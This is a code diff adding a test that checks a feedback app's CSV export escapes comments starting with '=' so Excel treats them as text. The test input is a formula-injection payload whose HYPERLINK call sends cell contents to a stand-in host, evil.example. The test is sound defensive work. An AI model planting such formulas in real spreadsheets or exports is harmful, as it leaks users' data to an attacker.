@@ -275,3 +275,16 @@ def test_after_publication_every_receipt_is_listed_sorted(client, runner, closed
     listed = LISTED.findall(response.get_data(as_text=True))
     assert listed == sorted(closed_round)
     assert len(set(listed)) == 3
+
+
+def test_a_comment_that_looks_like_a_formula_is_exported_as_text(app, runner, make_round, spec, submit, outdir) -> None:  # noqa: ANN001
+    """Open QRs let anyone write a comment; Excel must not run one that starts with '='."""
+    make_round(spec)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+    assert submit("/r/r2012/students", {"a:B01:service": "basic", "c:B01": formula}).status_code == 200
+    assert runner.invoke(args=["rounds", "close", "r2012"]).exit_code == 0
+
+    export(runner, outdir)
+
+    header, *rows = read_csv(outdir / "comments.csv")
+    assert rows == [["B01", "students", "'" + formula]]
